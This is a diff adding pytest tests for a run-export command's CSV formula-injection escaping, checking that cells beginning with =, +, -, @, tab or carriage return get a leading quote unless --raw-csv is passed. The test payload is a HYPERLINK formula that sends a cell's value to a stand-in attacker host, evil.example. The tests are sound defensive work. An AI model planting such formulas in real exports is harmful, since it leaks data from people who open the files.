@@ -139,6 +139,47 @@ def test_output_file(log, tmp_path):
         run("exportruns", "--output", str(tmp_path / "missing" / "runs.csv"))
 
 
+FORMULA = '1+1,HYPERLINK("http://evil.example/?x="&A1,"details")'
+
+
+def csv_row(*args: str) -> dict[str, str]:
+    """The first run of a CSV export, by column."""
+    rows = list(csv.reader(io.StringIO(run("exportruns", *args))))
+    return dict(zip(COLUMNS, rows[1], strict=True))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_before_them(start, tmp_path):
+    formula = start + FORMULA
+    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
+    row = csv_row()
+    assert row["task_name"] == row["message"] == row["exc_text"] == "'" + formula
+    assert row["status"] == "fail" and row["runtime"] == "60.0"
+    path = tmp_path / "runs.csv"
+    run("exportruns", "--output", str(path))
+    assert list(csv.reader(path.open(newline="")))[1][-1] == "'" + formula
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_raw_csv_writes_cells_as_stored(start):
+    formula = start + FORMULA
+    add(formula, RunStatus.FAIL, days_ago(1), message=formula, exc_text=formula)
+    row = csv_row("--raw-csv")
+    assert row["task_name"] == row["message"] == row["exc_text"] == formula
+
+
+def test_csv_escaping_leaves_other_cells_and_json_lines_alone():
+    add("etl", RunStatus.FAIL, days_ago(1), message="ValueError: a=1, b=-2 @home", exc_text="'")
+    row = csv_row()
+    assert (row["message"], row["exc_text"]) == ("ValueError: a=1, b=-2 @home", "'")
+    add("=etl", RunStatus.FAIL, days_ago(0.5), message="=1+1")
+    objects = [json.loads(line) for line in run("exportruns", "--format", "jsonl").splitlines()]
+    assert [(o["task_name"], o["message"]) for o in objects] == [
+        ("etl", "ValueError: a=1, b=-2 @home"),
+        ("=etl", "=1+1"),
+    ]
+
+
 def test_empty_log_exports_a_header_only():
     assert run("exportruns") == ",".join(COLUMNS) + "\n"
     assert run("exportruns", "--format", "jsonl") == ""
@@ -154,6 +195,8 @@ def test_export_errors(log, settings):
         run("exportruns", "--format", "xml")
     with pytest.raises(CommandError, match="is not an ISO 8601 date"):
         run("exportruns", "--since", "last week")
+    with pytest.raises(CommandError, match="--raw-csv applies to --format csv only"):
+        run("exportruns", "--format", "jsonl", "--raw-csv")
 
 
 @pytest.mark.parametrize(
